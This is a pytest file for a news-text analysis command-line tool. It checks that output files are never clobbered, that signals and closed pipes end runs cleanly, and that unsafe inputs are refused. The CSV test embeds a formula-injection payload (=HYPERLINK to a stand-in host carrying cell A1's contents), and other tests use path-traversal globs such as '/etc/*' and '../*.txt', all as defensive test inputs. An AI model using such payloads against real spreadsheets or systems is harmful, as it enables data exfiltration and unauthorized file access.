"""Issue 14: the output file — never clobbered, never half-written, never an input;
signals and a closed pipe end the run cleanly (cases 1, 2, 4, 7, 10, 12)."""

from __future__ import annotations

import csv
import io
import json
import os
import resource
import signal
import stat
import subprocess
import threading
from pathlib import Path

import pytest

from _adv import ARTICLE, IS_ROOT, SEED, SEEDS, assert_one_error, errors, parts, popen, run, wait_for

PREVIOUS = '{"previous": "run"}\n' * 1000


def _article(folder: Path, name: str = "a.txt", text: str = ARTICLE) -> Path:
    p = folder / name
    p.write_text(text, encoding="utf-8")
    return p


# -- case 1: -o onto a special file, a link, a private file ------------------------------------


def test_output_onto_fifo_writes_through_it(tmp_path: Path) -> None:
    fifo = tmp_path / "out.fifo"
    os.mkfifo(fifo)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()), daemon=True)
    reader.start()
    res = run(str(SEED), "-f", "jsonl", "-o", str(fifo), "-q", timeout=60)
    reader.join(10)
    assert res.returncode == 0, res.stderr
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode), "the FIFO was replaced by a regular file"
    assert got and json.loads(got[0].decode())["id"] == SEED.stem
    assert parts(tmp_path) == []


@pytest.mark.skipif(not IS_ROOT, reason="mknod of a character device needs root")
def test_output_onto_character_device_keeps_it(tmp_path: Path) -> None:
    dev = tmp_path / "null"
    os.mknod(dev, 0o666 | stat.S_IFCHR, os.makedev(1, 3))  # a private /dev/null
    res = run(str(SEED), "-f", "jsonl", "-o", str(dev), "-q")
    assert res.returncode == 0, res.stderr
    st = os.lstat(dev)
    assert stat.S_ISCHR(st.st_mode) and st.st_rdev == os.makedev(1, 3)
    assert parts(tmp_path) == []


def test_output_onto_symlink_replaces_target_keeps_link_and_mode(tmp_path: Path) -> None:
    target = tmp_path / "real.jsonl"
    target.write_text(PREVIOUS)
    os.chmod(target, 0o600)
    link = tmp_path / "link.jsonl"
    link.symlink_to(target.name)
    res = run(str(SEED), "-f", "jsonl", "-o", str(link), "-q")
    assert res.returncode == 0, res.stderr
    assert link.is_symlink() and os.readlink(link) == target.name
    assert json.loads(target.read_text().splitlines()[0])["id"] == SEED.stem
    assert stat.S_IMODE(target.stat().st_mode) == 0o600


def test_output_onto_hard_link_keeps_the_link(tmp_path: Path) -> None:
    out = tmp_path / "out.jsonl"
    out.write_text(PREVIOUS)
    other = tmp_path / "other.jsonl"
    os.link(out, other)
    res = run(str(SEED), "-f", "jsonl", "-o", str(out), "-q")
    assert res.returncode == 0, res.stderr
    assert out.stat().st_ino == other.stat().st_ino
    assert json.loads(other.read_text().splitlines()[0])["id"] == SEED.stem
    assert parts(tmp_path) == []


# -- cases 2 and 7: signals ------------------------------------------------------------------


def _idle_stdin_run(tmp_path: Path, sig: int) -> tuple[int, str, Path]:
    """``analyze - -o keep.jsonl`` with a stdin that never sends anything, then ``sig``
    once the output's temporary file exists (the run has started)."""
    keep = tmp_path / "keep.jsonl"
    keep.write_text(PREVIOUS)
    err = tmp_path / "stderr.txt"
    with open(err, "w") as fh:
        proc = popen("-", "-f", "jsonl", "-o", str(keep), stdin=subprocess.PIPE, stderr=fh)
        try:
            assert wait_for(lambda: parts(tmp_path), 60), "the run never started writing"
            proc.send_signal(sig)
            code = proc.wait(60)
        finally:
            proc.kill()
            proc.wait()
            proc.stdin.close()
    return code, err.read_text(), keep


def test_ctrl_c_before_first_document_keeps_previous_output(tmp_path: Path) -> None:
    code, stderr, keep = _idle_stdin_run(tmp_path, signal.SIGINT)
    assert code == 130
    assert keep.read_text() == PREVIOUS
    assert parts(tmp_path) == []
    assert "Traceback" not in stderr and len(errors(stderr)) == 1


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGHUP])
def test_sigterm_sighup_leave_no_part_file(tmp_path: Path, sig: int) -> None:
    code, stderr, keep = _idle_stdin_run(tmp_path, sig)
    assert code == 128 + sig, stderr
    assert keep.read_text() == PREVIOUS
    assert parts(tmp_path) == []
    assert "Traceback" not in stderr and len(errors(stderr)) == 1


def _descendants(pid: int) -> set[int]:
    """Every process below ``pid`` (from /proc)."""
    children: dict[int, list[int]] = {}
    for d in Path("/proc").iterdir():
        if d.name.isdigit():
            try:
                ppid = int((d / "stat").read_text().rsplit(")", 1)[1].split()[1])
            except (OSError, IndexError, ValueError):
                continue
            children.setdefault(ppid, []).append(int(d.name))
    out, todo = set(), [pid]
    while todo:
        for c in children.get(todo.pop(), []):
            if c not in out:
                out.add(c)
                todo.append(c)
    return out


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="needs Linux /proc")
@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGKILL])
def test_signal_to_parent_alone_leaves_no_worker(tmp_path: Path, sig: int) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    body = "قال الوزير إن الاقتصاد بخير. " * 4000  # a few seconds of work each
    for i in range(8):
        _article(folder, f"d{i}.txt", f"عنوان {i}\n{body}\n")
    proc = popen(str(folder), "-j", "2", "-f", "jsonl", "-o", str(tmp_path / "out.jsonl"),
                 stderr=subprocess.DEVNULL, start_new_session=True)
    kids: set[int] = set()
    try:
        # the resource tracker, the forkserver and at least one worker under it
        assert wait_for(lambda: len(_descendants(proc.pid)) >= 3, 90), "workers never started"
        wait_for(lambda: False, 0.5)
        kids = _descendants(proc.pid)
        proc.send_signal(sig)  # the parent alone, not its process group
        proc.wait(60)
        assert wait_for(lambda: not any(_alive(k) for k in kids), 20), \
            f"orphan processes left: {[k for k in kids if _alive(k)]}"
    finally:
        proc.kill()
        proc.wait()
        for k in kids:
            if _alive(k):
                os.kill(k, signal.SIGKILL)


def test_closed_stdout_ends_quietly_with_141() -> None:
    proc = popen(*[str(SEEDS)] * 4, "-j", "1", "-f", "table",
                 stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    proc.stdout.read(200)
    proc.stdout.close()  # what `| head` does
    stderr = proc.stderr.read().decode()
    assert proc.wait(120) == 141, stderr
    assert "Traceback" not in stderr and errors(stderr) == []


def test_closed_stdout_leaves_no_spinner_on_the_terminal() -> None:
    import pty

    master, slave = pty.openpty()
    proc = popen(*[str(SEEDS)] * 4, "-j", "1", "-f", "jsonl", stdout=subprocess.PIPE, stderr=slave)
    os.close(slave)
    proc.stdout.read(200)
    proc.stdout.close()
    chunks = []
    while True:
        try:
            b = os.read(master, 65536)
        except OSError:
            break
        if not b:
            break
        chunks.append(b)
    code = proc.wait(120)
    os.close(master)
    tty = b"".join(chunks).decode(errors="replace")
    assert code == 141, tty
    assert "Traceback" not in tty and "Aborted" not in tty
    if "analyzing" in tty:  # the progress bar was drawn: it must be erased and the cursor shown again
        assert tty.rstrip("\r\n").endswith("\x1b[?25h") or tty.rfind("\x1b[?25h") > tty.rfind("analyzing")


# -- case 4: -o is an input ------------------------------------------------------------------


def test_output_onto_an_input_is_refused(tmp_path: Path) -> None:
    corpus = tmp_path / "a.jsonl"
    corpus.write_text(json.dumps({"id": "x", "text": ARTICLE}, ensure_ascii=False) + "\n")
    before = corpus.read_bytes()
    res = run(str(corpus), "-f", "jsonl", "-o", str(corpus))
    assert res.returncode == 2
    assert_one_error(res.stderr, str(corpus))
    assert corpus.read_bytes() == before


def test_output_inside_input_folder_is_not_read_back(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    _article(folder)
    out = folder / "out.jsonl"
    for _ in range(2):
        res = run(str(folder), "-f", "jsonl", "-o", str(out))
        assert res.returncode == 0, res.stderr
        assert [json.loads(x)["id"] for x in out.read_text().splitlines()] == ["a"]


def test_newsan_output_in_input_folder_is_one_line_not_one_per_record(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    _article(folder)
    res = run(str(folder), "-f", "jsonl", "-o", str(folder / "first.jsonl"))
    assert res.returncode == 0
    (folder / "first.jsonl").write_text((folder / "first.jsonl").read_text() * 5)
    res = run(str(folder), "-f", "jsonl", "-o", str(tmp_path / "second.jsonl"))
    assert_one_error(res.stderr, "first.jsonl", "newsan output")
    assert [json.loads(x)["id"] for x in (tmp_path / "second.jsonl").read_text().splitlines()] == ["a"]


# -- case 10: CSV formula injection ----------------------------------------------------------


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    text = ('عنوان\nقال الوزير: «=HYPERLINK("http://x.example/?"&A1,"اضغط")» '
            'وأضاف «+1+1» ثم قال «@SUM(A1:A9)» وقال «-2+3».\n')
    corpus = tmp_path / "c.jsonl"
    corpus.write_text(json.dumps({"id": "=1+1", "text": text}, ensure_ascii=False) + "\n")
    # the rules' quotations: one-word quotations like these are what the learned
    # model drops, and this test is about the CSV writer, not about extraction
    res = run(str(corpus), "-f", "csv", "--quotes", "rules")
    assert res.returncode == 0, res.stderr
    rows = list(csv.reader(io.StringIO(res.stdout)))
    cells = [c for row in rows[1:] for c in row]
    assert any("HYPERLINK" in c for c in cells)  # the quotation was found ...
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]  # ... and defused
    assert "'=1+1" in cells


# -- case 12: where the output cannot go -----------------------------------------------------


def test_output_into_missing_folder(tmp_path: Path) -> None:
    res = run(str(SEED), "-f", "jsonl", "-o", str(tmp_path / "nope" / "out.jsonl"))
    assert res.returncode == 2
    assert_one_error(res.stderr, "nope")


@pytest.mark.skipif(IS_ROOT, reason="root writes into a read-only folder; needs a non-root user")
def test_output_into_read_only_folder(tmp_path: Path) -> None:
    ro = tmp_path / "ro"
    ro.mkdir()
    (ro / "out.jsonl").write_text(PREVIOUS)
    ro.chmod(0o555)
    try:
        res = run(str(SEED), "-f", "jsonl", "-o", str(ro / "out.jsonl"))
    finally:
        ro.chmod(0o755)
    assert res.returncode == 2
    assert_one_error(res.stderr, "out.jsonl")
    assert (ro / "out.jsonl").read_text() == PREVIOUS and parts(ro) == []


def test_output_on_a_full_disk(tmp_path: Path) -> None:
    """A full disk, as a file-size limit (RLIMIT_FSIZE, set on the running process
    once its output file exists) makes the kernel refuse writes past 4 KB, as
    ENOSPC would: no mount needed."""
    out = tmp_path / "out.jsonl"
    out.write_text(PREVIOUS)
    err = tmp_path / "stderr.txt"
    with open(err, "w") as fh:
        proc = popen(*[str(SEEDS)] * 3, "-j", "1", "-f", "jsonl", "-o", str(out), stderr=fh,
                     preexec_fn=lambda: signal.signal(signal.SIGXFSZ, signal.SIG_IGN))  # EFBIG, not killed
        try:
            assert wait_for(lambda: parts(tmp_path), 60)
            resource.prlimit(proc.pid, resource.RLIMIT_FSIZE, (4096, 4096))
            code = proc.wait(120)
        finally:
            proc.kill()
            proc.wait()
    stderr = err.read_text()
    assert code == 1, stderr
    assert_one_error(stderr, str(out))
    assert out.read_text() == PREVIOUS
    assert parts(tmp_path) == []


@pytest.mark.parametrize("glob", ["/etc/*", "../*.txt", "sub/../../*.txt"])
def test_glob_outside_the_folder_is_a_usage_error(tmp_path: Path, glob: str) -> None:
    res = run(str(SEEDS), "--glob", glob)
    assert res.returncode == 2
    assert_one_error(res.stderr, "--glob")


@pytest.mark.parametrize("address", ["inproc://x", "tcp://127.0.0.1:1", "not an address::"])
def test_bad_scheduler_is_a_usage_error(address: str) -> None:
    # the address is checked by Dask's client; without dask installed (the README's
    # '.[dev]' install) the answer is test_missing_dask_is_a_usage_error's one line
    pytest.importorskip("distributed")
    res = run(str(SEED), "--scheduler", address, timeout=30)
    assert res.returncode == 2, res.stderr
    assert_one_error(res.stderr, address.split("://")[-1] if "://" in address else "")


def test_missing_dask_is_a_usage_error(tmp_path: Path) -> None:
    fake = tmp_path / "nodask" / "distributed"
    fake.mkdir(parents=True)
    (fake / "__init__.py").write_text("raise ImportError('no dask here')\n")
    env = dict(os.environ, PYTHONPATH=f"{tmp_path / 'nodask'}{os.pathsep}{__import__('_adv').SRC}")
    res = subprocess.run(__import__("_adv").command("analyze", str(SEED), "--scheduler", "tcp://127.0.0.1:8786"),
                         capture_output=True, text=True, env=env, timeout=60, stdin=subprocess.DEVNULL)
    assert res.returncode == 2, res.stderr
    assert "dask" in assert_one_error(res.stderr).lower()


def test_ctrl_c_during_start_up_exits_130(tmp_path: Path) -> None:
    """Start-up held at a deterministic point: reading --lexicon from a FIFO."""
    fifo = tmp_path / "lexicon.yaml"
    os.mkfifo(fifo)
    err = tmp_path / "stderr.txt"
    with open(err, "w") as fh:
        proc = popen(str(SEED), "--lexicon", str(fifo), stderr=fh)
        writer = None
        try:
            def reader_waiting() -> bool:
                nonlocal writer
                try:
                    writer = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)  # succeeds once newsan opens it
                    return True
                except OSError:
                    return False

            assert wait_for(reader_waiting, 60)
            wait_for(lambda: False, 0.5)  # let it block in read()
            proc.send_signal(signal.SIGINT)
            code = proc.wait(60)
        finally:
            proc.kill()
            proc.wait()
            if writer is not None:
                os.close(writer)
    stderr = err.read_text()
    assert code == 130, stderr
    assert "Traceback" not in stderr and "Aborted" not in stderr


def test_output_folder_not_writable_even_as_root(tmp_path: Path, monkeypatch) -> None:
    """The same promise without needing a non-root user: creating the temporary
    file fails with EACCES, as in a read-only folder."""
    import tempfile

    from newsan.errors import OutputError
    from newsan.export import atomic_writer

    out = tmp_path / "out.jsonl"
    out.write_text(PREVIOUS)

    def refuse(*a, **kw):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(tempfile, "mkstemp", refuse)
    with pytest.raises(OutputError) as info:
        with atomic_writer(out) as fh:
            fh.write("new")
    assert info.value.usage and str(out) in str(info.value) and "\n" not in str(info.value)
    assert out.read_text() == PREVIOUS
